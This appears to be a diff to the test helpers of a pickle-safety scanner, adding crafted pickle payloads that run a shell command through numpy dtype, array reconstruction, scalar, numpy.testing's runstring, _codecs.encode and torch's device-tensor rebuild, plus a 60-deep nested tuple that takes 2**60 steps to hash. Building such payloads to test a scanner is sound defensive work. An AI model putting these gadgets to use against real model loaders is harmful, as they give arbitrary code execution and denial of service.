@@ -37,6 +37,29 @@ def call(function, *args):
     return function + b"(" + b"".join(args) + b"tR"
 
 
+def dtype(code, order="<"):
+    """Return instructions that make a numpy dtype as numpy writes it."""
+    state = (b"K\x03", text(order), *(3 * [b"N"]), *(2 * [b"J\xff\xff\xff\xff"]), b"K\x00")
+    made = call(name("numpy", "dtype"), text(code), b"\x89", b"\x88")
+    return made + b"(" + b"".join(state) + b"tb"
+
+
+def array(state):
+    """Return instructions that make a numpy array as numpy writes it, `state` setting its state."""
+    sign = call(name("_codecs", "encode"), text("b"), text("latin1"))
+    reconstruct = name("numpy.core.multiarray", "_reconstruct")
+    return call(reconstruct, name("numpy", "ndarray"), b"K\x00\x85", sign) + state
+
+
+def nested():
+    """Return instructions that push a tuple which holds one tuple twice, and so on, 60 deep.
+
+    To hash it or to write it out takes 2**60 steps.
+    """
+    twice = (b"q" + bytes([n]) + b"h" + bytes([n]) + b"\x86" for n in range(60))
+    return b"K\x01" + b"".join(twice)
+
+
 def program(body, protocol=2):
     """Return a whole pickle."""
     return b"\x80" + bytes([protocol]) + body + b"."
@@ -52,6 +75,8 @@ def gadgets():
     writer = call(name("operator", "methodcaller"), text("touch"))
     path = call(name("pathlib", "Path"), text(CANARY))
     mapped = call(name("builtins", "map"), system, b"]" + text(COMMAND) + b"a")
+    run = call(system, text(COMMAND))
+    device = name("torch._utils", "_rebuild_device_tensor_from_numpy")
     return {
         "os.system": direct,
         "posix.system": program(call(name("posix", "system"), text(COMMAND))),
@@ -86,6 +111,22 @@ def gadgets():
         "torch loads bytes": program(
             call(name("torch.storage", "_load_from_bytes"), data(as_legacy(direct))), 3
         ),
+        "numpy's array of objects": program(
+            array(b"(K\x01K\x01\x85" + dtype("O8", "|") + b"\x89]" + run + b"atb")
+        ),
+        "numpy's array of another class": program(
+            call(name("numpy.core.multiarray", "_reconstruct"), run, b"K\x00\x85", text("b"))
+        ),
+        "numpy's number": program(call(name("numpy.core.multiarray", "scalar"), dtype("i8"), run)),
+        "numpy's dtype": program(call(name("numpy", "dtype"), run)),
+        "the state of numpy's dtype": program(
+            call(name("numpy", "dtype"), text("i8"), b"\x89", b"\x88") + run + b"b"
+        ),
+        "numpy's tests": program(
+            call(name("numpy.testing._private.utils", "runstring"), text(CODE), b"}")
+        ),
+        "bytes in a codec": program(call(name("_codecs", "encode"), run, text("latin1"))),
+        "torch's device": program(call(device, array(b""), name("torch", "float32"), run, b"\x89")),
         "torch loads a zip": program(
             call(name("torch.storage", "_load_from_bytes"), data(as_zip(direct))), 3
         ),
